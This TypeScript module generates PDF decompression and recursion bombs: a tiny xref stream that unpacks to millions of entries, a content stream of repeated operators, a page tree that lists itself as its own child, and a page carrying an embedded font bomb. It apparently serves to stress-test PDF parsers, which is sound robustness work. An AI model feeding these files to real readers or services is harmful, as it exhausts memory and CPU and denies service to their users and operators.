/** PDFs that exhaust programs that read them. Small as files, huge or endless when they are unpacked. */
import { createDeflate, deflateSync } from "node:zlib";

const CHUNK = Buffer.alloc(3_000_000);

/** An xref stream that unpacks to this many entries: 150 million take 437 KB. */
export async function xrefBomb(entries: number): Promise<Buffer> {
  const packed = await deflateZeros(entries * 3);
  const start = "%PDF-1.5\n";
  const dictionary =
    `<</Type/XRef/Size ${entries}/W[1 1 1]/Index[0 ${entries}]/Root 2 0 R` +
    `/Filter/FlateDecode/Length ${packed.length}>>`;
  return Buffer.concat([
    Buffer.from(`${start}1 0 obj\n${dictionary}\nstream\n`),
    packed,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${start.length}\n%%EOF\n`),
  ]);
}

/** A page whose content stream unpacks to this many bytes of operators. */
export function contentBomb(bytes: number): Buffer {
  const line = "BT /F1 9 Tf (x) Tj ET q Q ";
  const packed = deflateSync(Buffer.alloc(bytes, line), { level: 9 });
  return pdfOf([
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/MediaBox[0 0 9 9]>>",
    stream(packed, "/Filter/FlateDecode"),
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
  ]);
}

/** A page tree that is its own child, and claims a million pages. */
export function pageTreeLoop(): Buffer {
  return pdfOf(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1000000>>"]);
}

/** A page that uses `font` as its font. */
export function fontBomb(font: Uint8Array): Buffer {
  const packed = deflateSync(font, { level: 9 });
  return pdfOf([
    "<</Type/Catalog/Pages 2 0 R>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/MediaBox[0 0 9 9]>>",
    stream(Buffer.from("BT /F1 9 Tf (x) Tj ET"), ""),
    "<</Type/Font/Subtype/TrueType/BaseFont/Bomb/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>",
    "<</Type/FontDescriptor/FontName/Bomb/Flags 4/FontFile2 7 0 R>>",
    stream(packed, "/Filter/FlateDecode"),
  ]);
}

function stream(bytes: Uint8Array, fields: string): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${fields}/Length ${bytes.length}>>\nstream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);
}

function pdfOf(objects: readonly (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.5\n")];
  const offsets: number[] = [];
  let size = parts[0]?.length ?? 0;
  for (const [at, object] of objects.entries()) {
    offsets.push(size);
    const part = Buffer.concat([Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n")]);
    parts.push(part);
    size += part.length;
  }
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  const trailer = `trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${size}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(xref + trailer)]);
}

/** Compresses the input in pieces, without holding all of it in memory. */
async function deflateZeros(bytes: number): Promise<Buffer> {
  const packer = createDeflate({ level: 9 });
  const packed = Array.fromAsync(packer as AsyncIterable<Buffer>);
  for (let left = bytes; left > 0; left -= CHUNK.length)
    if (!packer.write(CHUNK.subarray(0, Math.min(left, CHUNK.length))))
      await new Promise((resolve) => packer.once("drain", resolve));
  packer.end();
  return Buffer.concat(await packed);
}
